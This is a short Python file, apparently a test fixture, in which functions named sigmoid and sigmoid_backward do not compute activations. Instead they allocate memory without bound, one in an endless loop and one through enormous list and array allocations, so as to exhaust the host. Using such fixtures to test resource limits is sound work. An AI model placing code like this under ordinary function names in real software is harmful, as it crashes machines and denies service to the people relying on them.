"""Reserve memory until something gives."""

import numpy as np


def sigmoid(x):
    hoard = []
    while True:
        hoard.append(np.empty(1 << 24))


def sigmoid_backward(dout, x):
    hoard = [0] * (1 << 38)
    return np.empty((1 << 40,)) + len(hoard)
